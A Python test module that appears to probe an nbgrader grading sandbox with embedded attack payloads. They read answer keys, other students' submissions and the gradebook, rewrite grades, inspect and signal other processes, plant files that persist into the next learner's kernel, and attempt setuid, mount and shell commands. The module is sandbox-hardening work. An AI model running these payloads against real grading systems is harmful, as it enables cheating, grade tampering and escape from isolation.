"""Attacks on what a learner's code can reach. Each defines stolen(): True where it got through.

Only then does the submission hold a right answer, so points on stock nbgrader prove the attack,
and points in the sandbox would prove a hole. Nothing here destroys anything.
"""

TAIL = """
try:
    is_open = stolen()
except BaseException:
    is_open = False
if is_open:
    def weighted_mean(values, weights):
        return (values * weights).sum() / weights.sum()
"""

NEARBY = """
import os
from pathlib import Path
def nearby(end):
    for top in (Path.cwd(), *Path.cwd().parents[:3]):
        for folder, inner, names in os.walk(top):
            inner[:] = [n for n in inner if os.path.join(folder, n) not in ("/proc", "/usr")]
            for name in names:
                if name.endswith(end):
                    yield Path(folder, name)
"""

READ_MASTER = f"""{NEARBY}
def stolen():
    return any("values * weights" in p.read_text() for p in nearby(".ipynb") if "source" in p.parts)
"""

READ_OTHERS = f"""{NEARBY}
def stolen():
    return any("(values * weights)" in p.read_text() for p in nearby(".ipynb")
               if "submitted" in p.parts and "ada" in p.parts)
"""

READ_GRADEBOOK = f"""{NEARBY}
import sqlite3
def stolen():
    for place in nearby("gradebook.db"):
        rows = sqlite3.connect(place).execute("select source from source_cell").fetchall()
        if rows:
            return True
"""

WRITE_GRADEBOOK = f"""{NEARBY}
import sqlite3
def stolen():
    for place in nearby("gradebook.db"):
        base = sqlite3.connect(place, timeout=20)
        changed = base.execute("update grade set extra_credit = 1").rowcount
        base.commit()
        return changed > 0
"""

HIDDEN_INPUTS = f"""{NEARBY}
def stolen():
    return any("hidden_cosines" in p.read_text(errors="ignore") for p in nearby("ex_97_2.py"))
"""

GRADER_S_ENVIRONMENT = """
import glob
def stolen():
    for place in glob.glob("/proc/[0-9]*/environ"):
        try:
            if b"GRADING_ATTACK_MARK=" in open(place, "rb").read():
                return True
        except OSError:
            pass
"""

GRADER_S_MEMORY = """
import glob, os
def stolen():
    others = [p for p in glob.glob("/proc/[0-9]*/mem") if f"/{os.getpid()}/" not in p]
    for place in others:
        try:
            text = open(place.replace("mem", "cmdline"), "rb").read()
            if b"grading_victim" in text:
                open(place, "rb").close()
                return True
        except OSError:
            pass
"""

KILL_OTHERS = """
import glob, os, signal
def stolen():
    for place in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if b"grading_victim" in open(place, "rb").read():
                os.kill(int(place.split("/")[2]), signal.SIGURG)
                return True
        except OSError:
            pass
"""

LOOPBACK = """
import os, socket
def stolen():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
        return line.recv(100) == b"the answer"
"""

BEYOND_LOOPBACK = """
import socket
def stolen():
    with socket.create_connection(("ADDRESS", PORT), timeout=2) as line:
        return line.recv(100) == b"the answer"
"""

ABSTRACT_SOCKET = """
import socket
def stolen():
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(2)
    line.connect("\\0grading_attack_PORT")
    return line.recv(100) == b"the answer"
"""

SITE_PACKAGES = """
from pathlib import Path
def stolen():
    mark = Path(np.__file__).parent.parent / "grading_attack_mark.txt"
    mark.write_text("patched")
    return mark.exists()
"""

HOME_STARTUP = """
import os
from pathlib import Path
def stolen():
    place = Path(os.environ["HOME"], "grading_attack_startup")
    was_there = place.exists()
    place.write_text("runs in the next learner's kernel")
    return was_there
"""

HOME_STARTUP_FOUND = HOME_STARTUP

SETUID = """
import os
def stolen():
    os.setuid(0)
    return os.getuid() == 0
"""

MOUNT = """
import ctypes, os
def stolen():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.unshare(0x00020000) == 0 or libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0
"""

COMMANDS = """
import subprocess
def stolen():
    done = subprocess.run("touch /usr/lib/grading_attack_mark && rm /usr/lib/grading_attack_mark",
                          shell=True, capture_output=True)
    return done.returncode == 0
"""

ATTACKS = {
    name.lower(): source + TAIL
    for name, source in dict(globals()).items()
    if name.isupper() and isinstance(source, str) and name not in ("TAIL", "NEARBY")
}
